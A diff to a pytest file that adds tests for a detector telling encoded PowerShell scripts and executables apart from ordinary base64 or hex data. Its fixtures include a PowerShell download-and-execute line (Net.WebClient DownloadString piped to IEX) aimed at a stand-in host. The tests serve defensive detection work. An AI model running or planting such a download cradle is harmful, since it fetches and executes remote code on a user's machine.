@@ -7,7 +7,7 @@ import gzip
 
 import pytest
 
-from runkeyhunt.decode import decode_base64, hidden_texts
+from runkeyhunt.decode import decode_base64, hidden_texts, holds_program
 
 SECRET = "Invoke-WebRequest https://h.example/a"
 BASE64 = base64.b64encode(SECRET.encode()).decode()
@@ -58,3 +58,22 @@ def test_hidden_texts(text: str) -> None:
 )
 def test_ordinary_commands_hide_nothing(text: str) -> None:
     assert list(hidden_texts(text)) == []
+
+
+SCRIPT = "$client = New-Object Net.WebClient; IEX $client.DownloadString('https://h.example/a')" * 3
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        pytest.param(base64.b64encode(SCRIPT.encode("utf-16-le")).decode(), True, id="PowerShell in base64"),
+        pytest.param(SCRIPT.encode().hex(), True, id="PowerShell in hexadecimal"),
+        pytest.param(base64.b64encode(b"MZ" + bytes(300)).decode(), True, id="program in base64"),
+        pytest.param(base64.b64encode(b"An ordinary text of a licence. " * 20).decode(), False, id="ordinary text"),
+        pytest.param(base64.b64encode(bytes(range(256)) * 2).decode(), False, id="a certificate's kind of bytes"),
+        pytest.param(base64.b64encode(SCRIPT[:40].encode()).decode(), False, id="too short"),
+        pytest.param(SCRIPT, False, id="not encoded"),
+    ],
+)
+def test_a_stored_program_is_told_from_other_data(text: str, expected: bool) -> None:
+    assert holds_program(text) is expected
